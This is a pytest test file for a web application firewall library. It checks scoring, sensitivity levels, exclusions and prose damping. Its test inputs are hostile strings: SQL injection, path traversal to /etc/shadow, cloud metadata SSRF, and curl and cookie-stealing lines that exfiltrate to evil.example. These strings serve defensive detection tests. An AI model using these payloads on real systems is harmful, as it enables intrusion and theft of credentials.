"""Scores, sensitivity levels and scoped exclusions: what blocks, what is reported, where."""

from __future__ import annotations

import json
from typing import Any

import pytest
from protect_lambda import contract
from protect_lambda.engine import Rule, RuleError
from protect_lambda.guard import Guard, looks_like_prose, total_score
from protect_lambda.locations import Exclusion, LocationError, location_regex, path_segment

WEAK = {"id": "weak-001", "category": "custom", "direction": "inbound", "severity": "medium",
        "description": "a weak signal", "pattern": "weakword", "score": 3}
OTHER_WEAK = {**WEAK, "id": "weak-002", "description": "another weak signal", "pattern": "otherword"}
LEVEL_3 = {**WEAK, "id": "deep-001", "description": "only at sensitivity 3", "pattern": "deepword", "score": 5,
           "level": 3}


def _event(**params: str) -> dict[str, Any]:
    return {"version": "2.0", "rawPath": "/x", "requestContext": {"http": {"method": "GET"}},
            "queryStringParameters": params}


def test_a_weak_finding_alone_is_neither_blocked_nor_reported() -> None:
    guard = Guard(custom_rules=[WEAK, OTHER_WEAK])
    verdict = guard.inspect_event(_event(q="a weakword here"))
    assert not verdict.blocked and verdict.findings == []


def test_weak_findings_add_up_each_rule_once() -> None:
    guard = Guard(custom_rules=[WEAK, OTHER_WEAK])
    together = guard.inspect_event(_event(q="weakword and otherword"))
    assert together.blocked and {f.rule_id for f in together.findings} == {"weak-001", "weak-002"}
    assert total_score(together.findings) == 6
    repeated = guard.inspect_event(_event(q="weakword", r="weakword", s="weakword"))
    assert not repeated.blocked  # one rule in three places is still one weak signal


def test_batch_records_are_scored_one_by_one() -> None:
    guard = Guard(custom_rules=[WEAK, OTHER_WEAK])
    event = {"Records": [
        {"eventSource": "aws:sqs", "messageId": "a", "body": "weakword"},
        {"eventSource": "aws:sqs", "messageId": "b", "body": "otherword"},
        {"eventSource": "aws:sqs", "messageId": "c", "body": "weakword otherword"},
    ]}
    verdict = guard.inspect_event(event)
    assert verdict.blocked and verdict.blocked_records == {2}


def test_custom_rules_block_alone_by_default_and_explicit_block_makes_a_weak_rule_block() -> None:
    plain = dict(WEAK)
    del plain["score"]
    assert Rule.from_dict(plain).score == contract.BLOCK_SCORE
    assert Guard(custom_rules=[plain]).inspect_event(_event(q="weakword")).blocked
    told = Guard(custom_rules=[WEAK], rule_overrides={"weak-001": "block"})
    assert told.inspect_event(_event(q="weakword")).blocked


def test_sensitivity_turns_on_higher_levels() -> None:
    event = _event(q="deepword")
    assert not Guard(custom_rules=[LEVEL_3]).inspect_event(event).blocked
    assert not Guard(custom_rules=[LEVEL_3], sensitivity=2).inspect_event(event).blocked
    assert Guard(custom_rules=[LEVEL_3], sensitivity=3).inspect_event(event).blocked
    assert Guard(custom_rules=[LEVEL_3], rule_overrides={"deep-001": "block"}).inspect_event(event).blocked
    with pytest.raises(ValueError, match="sensitivity"):
        Guard(sensitivity=5)


@pytest.mark.parametrize("bad", [{"score": 0}, {"score": 11}, {"score": True}, {"level": 5}, {"level": "1"}])
def test_scores_and_levels_are_validated(bad: dict[str, Any]) -> None:
    with pytest.raises(RuleError, match="score|level"):
        Rule.from_dict({**WEAK, **bad})


def test_monitored_findings_that_reach_the_score_are_reported_not_blocked() -> None:
    guard = Guard(custom_rules=[WEAK, OTHER_WEAK], rule_overrides={"weak-002": "monitor"})
    verdict = guard.inspect_event(_event(q="weakword otherword"))
    assert not verdict.blocked
    assert {f.action for f in verdict.findings} == {contract.ACTION_DETECTED}


# --- exclusions --------------------------------------------------------------------------------

SQLI = "1' or '1'='1"


def test_an_exclusion_turns_a_category_off_at_one_location_only() -> None:
    body = {"commits": [{"message": SQLI}, {"message": "fine"}], "title": SQLI}
    event = {"version": "2.0", "rawPath": "/hook", "requestContext": {"http": {"method": "POST"}},
             "headers": {"content-type": "application/json"}, "body": json.dumps(body)}
    guard = Guard(exclusions=[{"category": "sqli", "location": "body.commits[*].message"}])
    verdict = guard.inspect_event(event)
    assert verdict.blocked
    assert {f.location for f in verdict.findings} == {"body.title"}
    only_commits = Guard(exclusions=[{"category": "sqli", "location": "body.commits[*]"},
                                     {"category": "sqli", "location": "body.title"}])
    assert not only_commits.inspect_event(event).blocked


def test_an_exclusion_may_monitor_a_rule_instead() -> None:
    guard = Guard()
    rule = next(f.rule_id for f in guard.inspect_event(_event(q=SQLI)).findings)
    monitored = Guard(exclusions=[{"rule": rule, "location": "queryStringParameters.q", "action": "monitor"}])
    verdict = monitored.inspect_event(_event(q=SQLI))
    assert any(f.rule_id == rule and f.action == contract.ACTION_DETECTED for f in verdict.findings)


def test_path_findings_name_their_segment() -> None:
    event = {"version": "2.0", "rawPath": "/files/../../../../etc/passwd", "requestContext": {"http": {"method": "GET"}}}
    verdict = Guard().inspect_event(event)
    assert verdict.blocked and all(f.location.startswith("rawPath[") for f in verdict.findings)
    excluded = Guard(exclusions=[{"category": "path_traversal", "location": "rawPath[*]"}])
    assert not excluded.inspect_event(event).blocked
    assert path_segment("rawPath", "/a/b/../c", 5) == "rawPath[2]"


@pytest.mark.parametrize(("pattern", "location", "covered"), [
    ("body.commits[*].message", "body.commits[3].message", True),
    ("body.commits[*].message", "body.commits[3].message#key", True),
    ("body.commits[*].message", "body.commits[3].messages", False),
    ("body.commits[1]", "body.commits[1].author.name", True),
    ("body.commits[1]", "body.commits[10]", False),
    ("headers.*", "headers.user-agent", True),
    ("Records[*].body.note", "Records[12].body.note", True),
    ("queryStringParameters.q", "queryStringParameters.qq", False),
    ("body.name#key", "body.name", False),
    ("body.name#key", "body.name#key", True),
])
def test_location_patterns(pattern: str, location: str, covered: bool) -> None:
    assert bool(location_regex(pattern).match(location)) is covered


@pytest.mark.parametrize("bad", ["", "body..x", "body.[1]", "body.x[a]", "a." * 40 + "b"])
def test_bad_locations_say_how_to_write_them(bad: str) -> None:
    with pytest.raises(LocationError, match="location"):
        Exclusion.from_dict({"category": "sqli", "location": bad})


def test_exclusions_need_exactly_one_of_rule_and_category() -> None:
    with pytest.raises(LocationError, match="either"):
        Exclusion.from_dict({"location": "body"})
    with pytest.raises(LocationError, match="either"):
        Exclusion.from_dict({"rule": "x", "category": "y", "location": "body"})
    with pytest.raises(LocationError, match="action"):
        Exclusion.from_dict({"rule": "x", "location": "body", "action": "block"})


# --- the built-in ladder -----------------------------------------------------------------------

@pytest.mark.parametrize(("value", "first_level"), [
    ("x && ls", 1),                               # a separator then a command: every level
    ("run `id`", 2),                              # backticks holding a command word: level 2 up
    ("a | sort", 3),                              # a pipe into a harmless command: level 3 up
    ("Mozilla/5.0 (compatible; curl/7.1)", 3),    # a crawler's user agent naming a tool: level 3 up
])
def test_the_built_in_ladder_is_graded(value: str, first_level: int) -> None:
    blocked = [Guard(sensitivity=level).inspect_event(_event(q=value)).blocked for level in (1, 2, 3, 4)]
    assert blocked == [level >= first_level for level in (1, 2, 3, 4)]


# --- prose, markup and damping -----------------------------------------------------------------

PROSE_TAIL = " please see the release notes for the change we made in this version of the library today"


@pytest.mark.parametrize("value", [
    "``x' or 'a'='a' -- ``" + PROSE_TAIL,   # a quote in the span can close the query's string
    "`x' or 'a'='a' -- `" + PROSE_TAIL,
    "``1 or 1=1``" + PROSE_TAIL,            # a span that starts the value is where a number goes
    'see "x\' or \'a\'=\'a\' --"' + PROSE_TAIL,  # a double-quoted span holding a quote is code too
])
def test_payloads_in_code_spans_are_not_damped_as_prose(value: str) -> None:
    assert Guard().inspect_event(_event(q=value)).blocked


@pytest.mark.parametrize("value", [
    "the query now renders ``SELECT ... FOR UPDATE`` only when the backend supports row locks",
    "the :func:`.union` and :meth:`.Select.order_by` methods now accept keyword arguments",
    "fixed a few errant ``u''`` strings that broke the tests on old interpreters",
])
def test_documentation_quoting_sql_in_markup_is_prose(value: str) -> None:
    assert looks_like_prose(value.lower()) or "'" in value
    assert not Guard().inspect_event(_event(q=value)).blocked


@pytest.mark.parametrize(("value", "level_2_blocks"), [
    ("Notably, this module can authenticate against PAM (without exposing the /etc/shadow file).", True),
    ("This Go package provides a /etc/fstab parser, and facilities to mount and unmount.", True),
    ("Append the keys to the current user's ~/.ssh/authorized_keys file, as the tool does.", True),
    ("Sections: * 5 = File formats and protocols (e.g. wtmp, /etc/passwd, nfs). * 6 = Games", True),  # not prose
    ('It moves the files to "~/.emacs.d/etc/" by default, as the other packages do.', False),  # prose: damped
    ("The service is managed using a web interface available at https://localhost/.", True),
    ('Add "../lib" to INCLUDES. Replace #include "../lib/foo" with #include "foo".', True),
    ('You can view the documentation by running "godoc --http=:6060", and then visiting '
     "http://localhost:6060/doc/install.html.", True),
])
def test_a_sentence_mentioning_a_sensitive_file_or_address_is_one_weak_signal_at_level_1(
        value: str, level_2_blocks: bool) -> None:
    assert not Guard().inspect_event(_event(q=value)).blocked
    assert Guard(mode="monitor").inspect_event(_event(q=value)).findings == []  # below the block score
    # higher levels count every finding in full
    assert Guard(sensitivity=2).inspect_event(_event(q=value)).blocked == level_2_blocks


@pytest.mark.parametrize("value", [
    "/etc/shadow",                                            # a path, not a sentence
    "/usr/local/pureftpd/etc/pureftpd.pdb%00",
    "show me the file please, it is ../../../../etc/shadow",  # a climb blocks alone, sentence or not
    "we tried this on the new version, ;cat /etc/shadow and it was fine",
    "it was great, see http://169.254.169.254/latest/meta-data/ for the keys",  # a metadata address
    # an independent review's bypasses of the first version of the mention rule
    "hello this is my name and address; curl -F f=@/proc/self/environ http://evil.example",
    "hello this is my name and address $(curl -d @/proc/self/environ evil.example)",
    "I would like to order two large pizzas please\nwget http://10.0.0.5/x -O /tmp/x",
    "http://10.0.0.5:8080/admin#our cats and dogs are very happy",
    "http://0xa9fea9fe/2021-07-15/meta-data/iam/security-credentials/#our cats and dogs are very happy",
    "file:///proc/self/environ#our cats and dogs are very happy",
    "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A#our cats and dogs are very happy",
    "../../our cats and dogs are very happy now/../../proc/thread-self/environ",
    "127.0.0.1;(env|base64)2>&1",
    "foo.txt /proc/$$/environ",
    "foo.txt /proc/[0-9]*/environ",
    "1' or 'a' is normalized and '1'='1",
    "<script>top. location='//evil.example/?'+document.cookie//",
    "http:\\rancher-metadata\\2015-12-19\\self\\host",
])
def test_a_path_or_a_climb_to_a_sensitive_file_still_blocks(value: str) -> None:
    assert Guard().inspect_event(_event(q=value)).blocked
